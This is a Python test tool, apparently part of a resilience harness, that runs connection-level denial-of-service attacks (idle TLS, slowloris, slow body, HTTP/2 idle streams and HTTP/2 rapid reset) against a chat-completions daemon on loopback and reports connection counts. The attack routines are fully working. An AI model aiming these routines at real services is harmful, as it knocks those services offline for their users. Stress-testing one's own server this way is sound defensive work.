"""Connection-level attackers, one mode per run, from a source address of their own (another
"host" on loopback). Run as a separate process so the attacker's CPU use does not share a GIL
with the legitimate client that measures the daemon.

    attack.py MODE --port P --conns N --seconds S [--source 127.0.0.2] [--key K] [--ca CA]

Modes:
  idle      TLS handshake, then silence. A closed connection is opened again at once.
  slowloris request line and headers one short header line every --interval seconds, never
            finished (slow headers).
  slowbody  complete headers announcing a 1 MB JSON body, then one byte every --interval.
  h2idle    HTTP/2 (ALPN h2): as many streams as the server allows, HEADERS without
            END_STREAM, never a body.
  h2reset   HTTP/2 rapid reset: HEADERS then RST_STREAM, as fast as the loop goes.

Prints one JSON line at the end: connections opened, closed by the server, refused, and
(for h2reset) streams opened.
"""

import argparse
import asyncio
import json
import random
import signal
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


class Stats:
    def __init__(self):
        self.opened = 0
        self.closed_by_server = 0
        self.refused = 0
        self.streams = 0
        self.open_now = 0
        self.peak_open = 0

    def up(self):
        self.opened += 1
        self.open_now += 1
        self.peak_open = max(self.peak_open, self.open_now)

    def down(self):
        self.open_now -= 1


def tls_context(alpn):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols([alpn])
    return ctx


async def connect(a, alpn):
    return await asyncio.wait_for(
        asyncio.open_connection("127.0.0.1", a.port, ssl=tls_context(alpn),
                                server_hostname="localhost", local_addr=(a.source, 0)),
        timeout=10,
    )


async def wait_closed(reader, until):
    """Read until the server closes (True) or the run ends (False)."""
    while time.monotonic() < until:
        try:
            data = await asyncio.wait_for(reader.read(65536), timeout=min(1.0, until - time.monotonic()))
        except asyncio.TimeoutError:
            continue
        except (ConnectionError, ssl.SSLError, OSError):
            return True
        if not data:
            return True
    return False


async def one_http1(a, st, until, mode):
    """One attacker slot: keep one connection in `mode` open until the run ends."""
    while time.monotonic() < until:
        try:
            reader, writer = await connect(a, "http/1.1")
        except (OSError, ssl.SSLError, asyncio.TimeoutError):
            st.refused += 1
            await asyncio.sleep(0.05)
            continue
        st.up()
        closed = False
        try:
            if mode == "idle":
                closed = await wait_closed(reader, until)
            else:
                if mode == "slowloris":
                    writer.write(b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\n")
                else:
                    writer.write(
                        b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\n"
                        b"Authorization: Bearer " + a.key.encode() + b"\r\n"
                        b"Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{"
                    )
                await writer.drain()
                while time.monotonic() < until:
                    if await wait_closed(reader, min(until, time.monotonic() + a.interval)):
                        closed = True
                        break
                    if mode == "slowloris":
                        writer.write(b"X-%d: %d\r\n" % (random.randrange(1 << 30), random.randrange(1 << 30)))
                    else:
                        writer.write(b" ")
                    await writer.drain()
        except (ConnectionError, ssl.SSLError, OSError):
            closed = True
        finally:
            st.down()
            if closed and time.monotonic() < until:
                st.closed_by_server += 1
            writer.close()


def h2_headers(a, path="/v1/chat/completions"):
    return [(":method", "POST"), (":scheme", "https"), (":authority", "localhost"),
            (":path", path), ("authorization", f"Bearer {a.key}"),
            ("content-type", "application/json"), ("content-length", "1000000")]


async def one_h2(a, st, until, mode):
    while time.monotonic() < until:
        try:
            reader, writer = await connect(a, "h2")
        except (OSError, ssl.SSLError, asyncio.TimeoutError):
            st.refused += 1
            await asyncio.sleep(0.05)
            continue
        st.up()
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        writer.write(conn.data_to_send())
        closed = False
        try:
            # The server's SETTINGS say how many streams it allows.
            data = await asyncio.wait_for(reader.read(65536), timeout=10)
            if not data:
                raise ConnectionError("closed before SETTINGS")
            conn.receive_data(data)
            writer.write(conn.data_to_send())
            limit = conn.remote_settings.max_concurrent_streams or 100
            if mode == "h2idle":
                for _ in range(min(limit, 1000)):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, h2_headers(a))
                    st.streams += 1
                writer.write(conn.data_to_send())
                await writer.drain()
                while time.monotonic() < until:
                    try:
                        data = await asyncio.wait_for(reader.read(65536), timeout=1)
                    except asyncio.TimeoutError:
                        continue
                    if not data:
                        closed = True
                        break
                    events = conn.receive_data(data)
                    writer.write(conn.data_to_send())
                    if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
                        closed = True
                        break
            else:
                while time.monotonic() < until:
                    for _ in range(50):
                        sid = conn.get_next_available_stream_id()
                        conn.send_headers(sid, h2_headers(a))
                        conn.reset_stream(sid)
                        st.streams += 1
                    writer.write(conn.data_to_send())
                    await writer.drain()
                    try:
                        data = await asyncio.wait_for(reader.read(65536), timeout=0.001)
                    except asyncio.TimeoutError:
                        continue
                    if not data:
                        closed = True
                        break
                    events = conn.receive_data(data)
                    writer.write(conn.data_to_send())
                    if any(isinstance(e, h2.events.ConnectionTerminated) for e in events):
                        closed = True
                        break
        except (ConnectionError, ssl.SSLError, OSError, asyncio.TimeoutError,
                h2.exceptions.ProtocolError):
            closed = True
        finally:
            st.down()
            if closed and time.monotonic() < until:
                st.closed_by_server += 1
            writer.close()


async def main(a):
    st = Stats()
    until = time.monotonic() + a.seconds
    one = one_h2 if a.mode.startswith("h2") else one_http1
    tasks = []
    # SIGTERM ends the run early (the driver's measurement is over); the totals still print.
    asyncio.get_running_loop().add_signal_handler(
        signal.SIGTERM, lambda: [t.cancel() for t in tasks])
    async def progress():
        while time.monotonic() < until:
            print(json.dumps({"event": "open", "open": st.open_now, "peak": st.peak_open}), flush=True)
            await asyncio.sleep(0.5)

    # Progress from the start: the driver waits for it while the connections ramp up.
    ticker = asyncio.create_task(progress())
    for _ in range(a.conns):
        tasks.append(asyncio.create_task(one(a, st, until, a.mode)))
        # Ramp at a bounded rate so the handshakes do not all land in one instant.
        try:
            await asyncio.sleep(1.0 / a.rate)
        except asyncio.CancelledError:
            break
    results = await asyncio.gather(*tasks, return_exceptions=True)
    ticker.cancel()
    crashed = [repr(r) for r in results
               if isinstance(r, BaseException) and not isinstance(r, asyncio.CancelledError)]
    print(json.dumps({"event": "done", "opened": st.opened, "closed_by_server": st.closed_by_server,
                      "refused": st.refused, "peak_open": st.peak_open, "streams": st.streams,
                      "slots_crashed": len(crashed), "crash": crashed[:1]}),
          flush=True)


if __name__ == "__main__":
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["idle", "slowloris", "slowbody", "h2idle", "h2reset"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--conns", type=int, required=True)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--source", default="127.0.0.2")
    p.add_argument("--key", default="")
    p.add_argument("--interval", type=float, default=5.0)
    p.add_argument("--rate", type=float, default=200.0, help="new connections per second while ramping")
    args = p.parse_args()
    try:
        asyncio.run(main(args))
    except KeyboardInterrupt:
        sys.exit(130)
